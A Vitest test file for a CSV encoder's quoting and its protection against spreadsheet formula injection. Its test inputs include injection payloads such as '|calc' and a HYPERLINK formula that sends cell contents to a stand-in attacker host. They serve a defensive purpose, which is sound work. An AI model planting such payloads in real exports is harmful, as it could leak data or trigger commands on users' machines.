import { describe, expect, it } from "vitest";
import { toCsvLine } from "../../../server/text/csv.ts";

describe("a line of CSV", () => {
  it("is quoted if necessary, and ends with CRLF", () => {
    expect(toCsvLine(["a", 'b "c"', "d,e", "f\ng", "", null, -1.5, true, " h"])).toBe('a,"b ""c""","d,e","f\ng",,,-1.5,true," h"\r\n');
  });

  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "|calc",
    "\t=1",
    "\r=1",
    " =1",
    "\u0000=1",
    "\u200b=1",
    "＝1",
    '=HYPERLINK("https://evil.example?"&A1)',
  ])("prevents %j from being a formula", (text) => {
    const line = toCsvLine([text]);
    expect(line).toMatch(/^"?'/);
    expect(line).toContain(text.replaceAll('"', '""'));
  });

  it("keeps texts that merely contain such a character", () => {
    expect(toCsvLine(["1 = 1", "a@b.example", "well-known"])).toBe("1 = 1,a@b.example,well-known\r\n");
  });
});
